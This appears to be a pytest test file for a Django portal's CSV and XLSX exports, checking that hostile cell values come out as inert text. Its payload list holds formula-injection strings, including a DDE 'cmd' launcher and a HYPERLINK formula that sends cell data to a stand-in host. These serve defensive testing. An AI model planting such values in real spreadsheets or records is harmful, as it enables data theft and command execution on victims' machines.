"""Every CSV and XLSX the portal writes is formula-safe: parsed back with the csv module and
openpyxl, no cell is one a spreadsheet would evaluate, phone numbers keep their `+`, numbers stay
numbers. The payloads reach the files the way an attacker would put them there: a staff edit of a
city's native name, an approved application's city name, a contact's details."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from citytwins.spreadsheets import (
    SAFE_FORMATS,
    FormulaSafeExportMixin,
    csv_cell,
    csv_cell_unquote,
    risky,
    xlsx_bytes,
)
from members.models import City, Contact, MembershipApplication
from members.services.applications import application_approve
from tests.factories import SecretaryFactory, UserFactory
from tests.members.test_my import city_post

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Open report")'
PAYLOADS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK]
PHONE = "+358 5 123 4567"


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_csv_is_safe(rows: list[list[str]]) -> None:
    evaluated = [cell for row in rows for cell in row if risky(cell)]
    assert evaluated == []


def assert_xlsx_is_safe(cells: list) -> None:
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == []
    unmarked = [
        cell.value
        for cell in cells
        if isinstance(cell.value, str) and risky(cell.value) and not cell.quotePrefix
    ]
    assert unmarked == []


def test_the_rules_cell_by_cell():
    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
        assert csv_cell_unquote(csv_cell(payload)) == payload
    assert csv_cell(PHONE) == PHONE
    assert csv_cell("+358 (0)5 123 4567") == "+358 (0)5 123 4567"
    assert csv_cell("+358 5 123 4567 ext. =1") != "+358 5 123 4567 ext. =1"
    assert csv_cell("Tornio") == "Tornio" and csv_cell(-25) == -25 and csv_cell(None) == ""
    assert csv_cell_unquote("'Tornio") == "'Tornio"  # a quote of its own stays

    content = xlsx_bytes(["name", "number"], [[payload, -2] for payload in PAYLOADS])
    cells = xlsx_cells(content)
    assert_xlsx_is_safe(cells)
    # The text itself, unchanged (XML reads a carriage return as a line feed).
    assert [cell.value for cell in cells[2::2]] == [p.replace("\r", "\n") for p in PAYLOADS]
    assert all(cell.value == -2 and cell.data_type == "n" for cell in cells[3::2])


@pytest.fixture
def tornio_staff(network):
    return UserFactory(email="staff@tornio.fi", city=City.objects.get(slug="tornio"))


def test_a_staff_edit_reaches_the_directory_files_as_text(client, tornio_staff):
    client.force_login(tornio_staff)
    tornio = City.objects.get(slug="tornio")
    for payload in [*PAYLOADS, PHONE]:
        response = client.post("/my/cities/tornio/", city_post(tornio, native_name=payload))
        assert response.status_code == 302, payload
        native = City.objects.get(slug="tornio").native_name
        assert risky(native) == risky(payload)  # the form keeps it (stripped of space)

        rows = csv_cells(client.get("/twins.csv").content)
        assert_csv_is_safe(rows)
        (tornio_row,) = [row for row in rows if row[2] == "Tornio"]
        assert tornio_row[3] == (native if native == PHONE else "'" + native)

        cells = xlsx_cells(client.get("/twins.xlsx").content)
        assert_xlsx_is_safe(cells)
        assert native in [cell.value for cell in cells]


def test_the_xlsx_has_the_csvs_rows_with_numbers_as_numbers(client, network):
    query = "?country=FI&sort=name"
    csv_rows = csv_cells(client.get(f"/twins.csv{query}").content)
    response = client.get(f"/twins.xlsx{query}")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="city-twins.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    xlsx_rows = [
        ["" if value is None else value for value in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    assert len(xlsx_rows) == len(csv_rows) == 1 + 4  # Imatra, Svetogorsk, Tornio, Haparanda
    for csv_row, xlsx_row in zip(csv_rows, xlsx_rows, strict=True):
        assert [str(value) for value in xlsx_row[:9]] == csv_row[:9]
    header = csv_rows[0]
    imatra = xlsx_rows[[row[2] for row in xlsx_rows].index("Imatra")]
    latitude = imatra[header.index("Latitude")]
    assert isinstance(latitude, float) and 61 < latitude < 62
    assert csv_rows[[row[2] for row in csv_rows].index("Imatra")][header.index("Latitude")] == (
        f"{latitude:.5f}"
    )


@pytest.fixture
def hostile_record(network, tornio_staff):
    """Payloads everywhere an export reads: a city from an approved application, contacts."""
    secretary = SecretaryFactory(email="secretary@imatra.fi", is_superuser=True)
    application = MembershipApplication.objects.create(
        city_name=HYPERLINK,
        country="NO",
        twin_city_name="=1+1",
        twin_country="RU",
        contact_name="@SUM(A1)",
        contact_email="kari@kirkenes.example.no",
        contact_phone=PHONE,
        motivation="-2+3",
    )
    application_approve(application=application, by=secretary)
    tornio = City.objects.get(slug="tornio")
    for n, payload in enumerate(PAYLOADS):
        Contact.objects.create(
            city=tornio, name=f"{payload} {n}", role=payload, email=f"c{n}@tornio.fi", phone=PHONE
        )
    City.objects.filter(pk=tornio.pk).update(native_name="\t=1", status_note="\r=1")
    return secretary


def export_admins() -> list:
    return [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]


def test_every_admin_export_uses_the_safe_formats_only():
    assert export_admins(), "no admin exports anything: this test would prove nothing"
    for model_admin in export_admins():
        assert isinstance(model_admin, FormulaSafeExportMixin), model_admin
        formats = model_admin.get_export_formats()
        assert formats and all(issubclass(f, tuple(SAFE_FORMATS)) for f in formats), model_admin


def test_the_approved_applications_city_reaches_the_directory_csv_as_text(client, hostile_record):
    rows = csv_cells(client.get("/twins.csv").content)
    assert_csv_is_safe(rows)
    assert "'" + HYPERLINK in [row[2] for row in rows]


def test_every_admin_export_in_every_format_is_safe(client, hostile_record):
    client.force_login(hostile_record)
    exported = 0
    for model_admin in export_admins():
        opts = model_admin.model._meta
        url = reverse(f"admin:{opts.app_label}_{opts.model_name}_export")
        for index, file_format in enumerate(model_admin.get_export_formats()):
            response = client.post(url, {"resource": "0", "format": str(index)})
            assert response.status_code == 200, (url, file_format)
            if file_format().is_binary():
                cells = xlsx_cells(response.content)
                assert_xlsx_is_safe(cells)
                values = [cell.value for cell in cells]
            else:
                rows = csv_cells(response.content)
                assert_csv_is_safe(rows)
                values = [cell for row in rows for cell in row]
            exported += 1
            if model_admin.model is Contact:
                assert PHONE in values  # the phone number, + and all
                assert any(HYPERLINK in str(value) for value in values)
            if model_admin.model is City:
                assert any(HYPERLINK in str(value) for value in values)
    assert exported >= 4


def test_an_exported_csv_imports_back_unchanged(client, hostile_record):
    client.force_login(hostile_record)
    # An uploaded file is read with universal newlines, so a carriage return comes back as a
    # line feed whatever the quoting: that contact would read back changed anyway.
    Contact.objects.filter(role="\r=1").delete()
    response = client.post("/admin/members/contact/export/", {"resource": "0", "format": "0"})
    upload = io.BytesIO(response.content)
    upload.name = "contacts.csv"
    response = client.post(
        "/admin/members/contact/import/",
        {"resource": "0", "format": "0", "import_file": upload},
    )
    assert response.status_code == 200
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    # Every row reads back as it was: nothing to change.
    assert {row.import_type for row in result.valid_rows()} == {"skip"}
